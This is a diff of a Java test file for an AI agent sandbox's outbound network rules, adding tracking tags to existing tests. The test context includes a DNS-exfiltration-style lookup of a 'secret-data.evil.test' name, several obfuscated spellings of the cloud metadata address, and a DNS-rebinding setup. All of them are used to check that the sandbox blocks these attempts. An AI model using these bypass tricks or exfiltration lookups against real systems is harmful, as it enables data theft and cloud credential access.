@@ -6,6 +6,7 @@ import com.fasterxml.jackson.databind.JsonNode;
 import dev.declaw.e2e.WholeSystem.Rig;
 import dev.declaw.e2e.WholeSystem.TestSandbox;
 import java.util.List;
+import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestInstance;
 import org.junit.jupiter.api.extension.ExtendWith;
@@ -40,6 +41,7 @@ class EgressRulesTest {
                 "{'deny_out': ['other.example.test']} ; other.example.test ; denied_by_rule",
                 "{'deny_out': ['0.0.0.0/0']} ; api.example.test ; denied_by_rule"
             })
+    @Tag("B029") @Tag("B034")
     void domainRulesDecideWhichNamesAreReached(String network, String host, String expected) {
         try (TestSandbox sandbox = rig.sandbox("{'network': " + network + "}")) {
             JsonNode report = sandbox.probeUnverified(host, 443, host, get(host));
@@ -57,6 +59,7 @@ class EgressRulesTest {
     }
 
     @Test
+    @Tag("B012")
     void aNameThatIsDeniedIsNeverAskedUpstream() {
         try (TestSandbox sandbox = rig.sandbox("{'network': {'allow_out': ['api.example.test']}}")) {
             sandbox.run("getent hosts canary-4711.secret-data.evil.test; getent hosts canary-4712.example.test");
@@ -79,6 +82,7 @@ class EgressRulesTest {
     }
 
     @Test
+    @Tag("B028")
     void aBareAddressIsRefusedWhenOnlyNamesAreAllowed() {
         String address = rig.world.lastAddress().getHostAddress();
         try (TestSandbox sandbox = rig.sandbox("{'network': {'allow_out': ['plain.example.test']}}")) {
@@ -90,6 +94,7 @@ class EgressRulesTest {
     }
 
     @Test
+    @Tag("B018") @Tag("B019")
     void theMetadataServiceIsOutOfReachInEverySpelling() {
         List<String> spellings = List.of(
                 "169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518",
@@ -112,6 +117,7 @@ class EgressRulesTest {
     }
 
     @Test
+    @Tag("B014") @Tag("B015") @Tag("B019")
     void aNameThatResolvesToTheMetadataServiceIsRefusedAlthoughARuleAllowsIt() throws Exception {
         var metadata = java.net.InetAddress.getByAddress(new byte[] {(byte) 169, (byte) 254, (byte) 169, (byte) 254});
         rig.world.names().answer("rebind.example.test", () -> java.util.List.of(metadata));
@@ -123,6 +129,7 @@ class EgressRulesTest {
     }
 
     @Test
+    @Tag("B132")
     void aDenialTellsTheAgentWhyAndNamesItsAuditEvent() throws Exception {
         try (TestSandbox sandbox = rig.sandbox("{'network': {'allow_out': ['api.example.test']}}")) {
             JsonNode report = sandbox.probe("api.example.test", 80, null, get("plain.example.test"));
@@ -138,6 +145,7 @@ class EgressRulesTest {
     }
 
     @Test
+    @Tag("B035")
     void aServerNameThatIsNotTheHostIsRefused() {
         try (TestSandbox sandbox = rig.sandbox(
                 "{'network': {'allow_out': ['api.example.test', 'other.example.test']}, 'security': {'pii': {'enabled': true}}}")) {
